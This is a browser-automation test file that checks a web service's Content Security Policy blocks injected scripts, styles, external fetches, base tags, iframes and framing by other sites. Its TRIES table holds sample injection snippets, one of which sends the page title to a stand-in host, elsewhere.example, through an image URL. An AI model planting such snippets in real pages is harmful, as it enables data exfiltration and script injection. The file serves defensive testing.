"""What the pages' headers forbid a browser, and that the pages do without it."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from tests.page.shown import Looker, Served, at

pytestmark = pytest.mark.slow

Look = Callable[..., Looker]
WATCH = (
    "window.broken = []; document.addEventListener('securitypolicyviolation', e => broken.push(e.violatedDirective))"
)


def opened(look: Look, url: str) -> Looker:
    """A tab that counts what the policy forbids, from the first line of the page on."""
    looker = look("about:blank")
    looker.context.add_init_script(WATCH)
    looker.page.goto(url)
    return looker


def test_the_status_page_asks_for_nothing_that_is_forbidden(service: Served, look: Look) -> None:
    looker = opened(look, at(service))
    looker.open_ranker("shop")
    looker.page.locator("svg").first.wait_for()
    assert looker.page.evaluate("broken") == []


def test_the_docs_try_a_call_without_asking_for_more(service: Served, look: Look) -> None:
    looker = opened(look, f"{at(service)}docs")
    looker.page.get_by_text("/healthz").first.wait_for()
    assert looker.page.evaluate("fetch('/healthz').then(answer => answer.status)") == 200
    assert looker.page.evaluate("broken") == []


# What text that got past the escaping could try.
TRIES = {
    "script-src-elem": "const s = document.createElement('script'); s.textContent = 'ran = 1'; document.body.append(s)",
    "style-src-attr": "document.body.setAttribute('style', 'display: none')",
    "img-src": "const i = new Image(); i.src = `${FAR}?${document.title}`; document.body.append(i)",
    "connect-src": "fetch(FAR).catch(() => 0)",
    "base-uri": "const b = document.createElement('base'); b.href = FAR; document.head.append(b)",
    "frame-src": "const f = document.createElement('iframe'); f.src = FAR; document.body.append(f)",
}


@pytest.mark.parametrize("what", TRIES)
@pytest.mark.parametrize("path", ["", "docs"])
def test_what_a_page_might_be_made_to_do_is_forbidden(service: Served, look: Look, path: str, what: str) -> None:
    looker = opened(look, f"{at(service)}{path}")
    looker.expected = ("Content Security Policy", "Refused to")
    looker.page.evaluate(f"() => {{ const FAR = 'https://elsewhere.example/'; {TRIES[what]} }}")
    looker.page.wait_for_function("broken.length > 0")
    assert looker.page.evaluate("broken") == [what]
    assert looker.page.evaluate("typeof ran") == "undefined"


def test_no_other_page_can_frame_it(service: Served, look: Look, elsewhere: str) -> None:
    looker = look(elsewhere)
    looker.expected = ("frame", "ERR_BLOCKED")
    frames: Any = looker.page.evaluate(
        """url => new Promise(done => {
          const frame = document.createElement("iframe");
          frame.onload = () => done(window.frames.length); frame.src = url; document.body.append(frame);
        })""",
        at(service),
    )
    assert frames == 1
    inside = looker.page.frames[1]
    assert "rankloop" not in inside.content()
